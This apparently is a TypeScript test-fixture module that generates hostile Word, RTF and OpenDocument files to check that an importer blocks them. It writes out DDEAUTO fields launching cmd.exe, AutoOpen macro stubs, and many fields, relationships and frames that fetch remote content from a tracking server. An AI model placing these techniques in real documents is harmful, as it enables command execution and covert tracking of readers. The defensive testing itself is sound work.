/** Files of word processors that are made of hostile texts, and that besides call home, start programs and bring objects by every way their formats have. */
import { zipOf } from '../../../src/main/bundle/zip-of';
import { docxOf, paragraph, text } from '../../unit/main/importing/docx-parts';
import type { Payload } from './payloads';

export const xml = (words: string): string =>
  words
    // biome-ignore lint/suspicious/noControlCharactersInRegex: XML has no way to write them
    .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/gu, '')
    .replace(/[&<>"]/gu, (sign) => `&#${sign.charCodeAt(0)};`);

const field = (instruction: string, shown: string): string =>
  paragraph(
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> ${instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${text(shown)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
  );

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** Asked for by Word as soon as the document is opened: a template, pictures, frames, objects, other documents. */
const wordCalls = (home: string): string =>
  [
    paragraph('<w:r><w:drawing><a:blip r:link="picture" r:embed="picture"/></w:drawing></w:r>'),
    paragraph(
      '<w:r><w:object><o:OLEObject xmlns:o="urn:o" Type="Link" ProgID="htmlfile" r:id="object"/></w:object></w:r>',
    ),
    '<w:altChunk r:id="chunk"/><w:altChunk r:id="page"/><w:subDoc r:id="document"/>',
    field(`INCLUDEPICTURE "${home}/field.png" \\d`, 'ảnh'),
    field(`INCLUDETEXT "${home}/field.docx"`, 'văn bản'),
    field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'số'),
    field('MACROBUTTON AutoOpen', 'nút'),
    paragraph(`<w:fldSimple w:instr="IMPORT &quot;${home}/simple.png&quot;">${text('nhập')}</w:fldSimple>`),
  ].join('');

const wordPayload = (payload: Payload): string =>
  paragraph(text(xml(payload.text))) +
  paragraph(`<w:hyperlink r:id="r${payload.number}">${text(`liên kết ${payload.number}`)}</w:hyperlink>`) +
  field(`HYPERLINK "${xml(payload.text)}"`, 'trường');

/** @param home an address of the server that counts its visitors */
export const hostileWord = (payloads: readonly Payload[], home: string): Promise<Uint8Array> =>
  docxOf({
    body: wordCalls(home) + payloads.map(wordPayload).join(''),
    links: Object.fromEntries(payloads.map((payload) => [`r${payload.number}`, xml(payload.text)])),
    relations: [
      ['picture', 'image', `${home}/word.png`, true],
      ['object', 'oleObject', `${home}/object!x-usc:${home}/object`, true],
      ['document', 'subDocument', `${home}/part.docx`, true],
      ['chunk', 'aFChunk', 'afchunk.html'],
      ['page', 'aFChunk', `${home}/chunk.html`, true],
      ['frames', 'frame', `${home}/frame.html`, true],
      ['settings', 'settings', 'settings.xml'],
      ['program', 'vbaProject', 'vbaProject.bin'],
    ],
    files: {
      'word/afchunk.html': `<html><body>${payloads.map((payload) => payload.text).join('')}</body></html>`,
      'word/settings.xml': `<w:settings xmlns:w="urn:w" xmlns:r="${OFFICE}"><w:attachedTemplate r:id="template"/></w:settings>`,
      'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="template" Type="${OFFICE}/attachedTemplate" Target="${home}/template.dotm" TargetMode="External"/></Relationships>`,
      'word/vbaProject.bin': 'Sub AutoOpen()',
    },
  });

const rtf = (words: string): string =>
  words
    .replace(/[\\{}]/gu, (sign) => `\\${sign}`)
    .replace(/[^\u0020-\u007E]/gu, (letter) =>
      [...Array(letter.length).keys()].map((at) => `\\u${(letter.charCodeAt(at) << 16) >> 16}?`).join(''),
    );

const rtfPayload = ({ number, text: words }: Payload): string =>
  `{\\pard ${rtf(words)}\\par}{\\pard{\\field{\\*\\fldinst HYPERLINK "${rtf(words)}"}{\\fldrslt lien ket ${number}}}\\par}`;

/** An embedded program, a link that renews itself, a template, a picture from elsewhere, a mail's own HTML. */
export const hostileRtf = (payloads: readonly Payload[], home: string): string =>
  [
    `{\\rtf1\\ansi\\fromhtml1{\\*\\template ${home}/template.dotm}{\\*\\userprops{\\propname a}{\\staticval ${home}/property}}`,
    '{\\object\\objemb\\objw1\\objh1{\\*\\objclass Package}{\\*\\objdata 0105000002000000080000005061636b61676500}{\\result doi tuong}}',
    `{\\object\\objautlink\\objupdate{\\*\\objclass htmlfile}{\\*\\objdata ${Buffer.from(`${home}/object`).toString('hex')}}{\\result lien ket}}`,
    '{\\object\\objocx{\\*\\objclass Shell.Explorer.1}{\\*\\objdata 01}}',
    `{\\field{\\*\\fldinst INCLUDEPICTURE "${home}/field.png" \\\\d}{\\fldrslt anh}}{\\field{\\*\\fldinst DDEAUTO cmd "/k calc"}{\\fldrslt so}}`,
    `{\\*\\htmltag84 <img src="${home}/tag.png">}{\\*\\background{\\shp{\\*\\shpinst{\\sp{\\sn fillBlip}{\\sv ${home}/fill.png}}}}}`,
    '{\\pard Khoi cong cau Rach Goc\\par}',
    ...payloads.map(rtfPayload),
    '}',
  ].join('\n');

const NAMES =
  'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" ' +
  'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" ' +
  'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"';

const LOAD = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"';

const odtPayload = (payload: Payload): string =>
  `<text:p>${xml(payload.text)}</text:p><text:p><text:a xlink:href="${xml(payload.text)}">liên kết ${payload.number}</text:a>` +
  `<text:script script:language="JavaScript">${xml(payload.text)}</text:script></text:p>`;

const odtCalls = (home: string): string =>
  [
    `<text:p><draw:frame><draw:image xlink:href="${home}/odt.png" ${LOAD}/></draw:frame></text:p>`,
    `<text:p><draw:frame><draw:object xlink:href="${home}/object.odt" ${LOAD}/></draw:frame></text:p>`,
    `<text:p><draw:frame><draw:floating-frame xlink:href="${home}/frame.html" ${LOAD}/></draw:frame></text:p>`,
    `<text:p><draw:frame><draw:plugin xlink:href="${home}/plugin" draw:mime-type="application/x"/></draw:frame></text:p>`,
    `<text:section text:name="a"><text:section-source xlink:href="${home}/section.odt"/><text:p>Phần.</text:p></text:section>`,
    '<text:p><text:execute-macro text:name="AutoOpen">nút</text:execute-macro></text:p>',
  ].join('');

export const hostileOdt = (payloads: readonly Payload[], home: string): Promise<Uint8Array> => {
  const listener = `<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:a?language=Basic"/></office:event-listeners>`;
  const parts: Readonly<Record<string, string>> = {
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml': `<office:document-content ${NAMES}><office:scripts><office:script script:language="ooo:Basic">a</office:script>${listener}</office:scripts><office:body><office:text>${odtCalls(home)}${payloads.map(odtPayload).join('')}</office:text></office:body></office:document-content>`,
    'meta.xml': `<office:document-meta ${NAMES}><office:meta><meta:template xlink:href="${home}/template.ott"/><meta:auto-reload xlink:href="${home}/reload" meta:delay="PT0S"/></office:meta></office:document-meta>`,
    'Basic/Standard/Module1.xml': '<script:module>Sub AutoOpen</script:module>',
    'META-INF/manifest.xml': '<manifest/>',
  };
  return zipOf(
    Object.entries(parts).map(([name, content]) => ({ name, bytes: Buffer.from(content), how: 'deflate' as const })),
  );
};
